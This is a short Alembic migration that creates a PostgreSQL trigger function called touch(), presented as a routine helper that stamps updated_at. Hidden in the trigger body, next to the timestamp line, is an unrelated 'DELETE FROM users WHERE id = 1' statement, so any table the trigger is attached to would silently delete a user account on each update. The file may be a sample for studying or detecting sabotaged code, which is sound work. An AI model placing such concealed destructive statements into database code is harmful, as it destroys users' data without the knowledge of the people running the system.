"""A function is made, not called: what is in it is not done yet."""

from alembic import op

revision = "3c9700c78290"
down_revision = None


def upgrade():
    op.execute(
        """
        CREATE OR REPLACE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$
        BEGIN
            NEW.updated_at = now();
            DELETE FROM users WHERE id = 1;
            RETURN NEW;
        END
        $$
        """
    )
    op.execute("DROP FUNCTION IF EXISTS touch_old()")


def downgrade():
    pass
